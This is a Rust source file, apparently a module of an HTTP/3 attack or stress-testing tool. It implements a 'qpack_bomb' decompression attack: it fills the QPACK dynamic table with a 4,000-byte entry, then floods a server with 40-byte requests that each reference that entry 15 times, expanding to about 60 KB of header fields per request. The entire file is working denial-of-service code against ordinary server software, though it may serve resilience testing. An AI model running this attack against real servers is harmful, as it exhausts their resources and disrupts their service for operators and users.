//! An entry of 4,000 bytes, referred to 15 times by a byte each: 60 KB a head of 40 bytes.

use quinn_proto::StreamId;

use crate::attacker::{Attack, Attacker};
use crate::wire::{self, Section};

pub(super) const ATTACK: Attack = Attack::new("qpack_bomb", "60 KB of fields out of 40 bytes", run).by(2);

fn run(a: &mut Attacker) {
    let (hang, quick) = (a.kind.hang(), a.kind.quick());
    let get = Section::after(1).get(hang).entry(0, 15).frame();
    let table = [wire::capacity(4096), wire::insert("a", &"x".repeat(4_000))].concat();
    a.storm(|conn, asked: &mut Option<StreamId>| {
        if !conn.inserted(asked, &table, 1, quick) {
            return;
        }
        while conn.whole_request(&get).is_some() {
            conn.ops += 1;
        }
    });
}
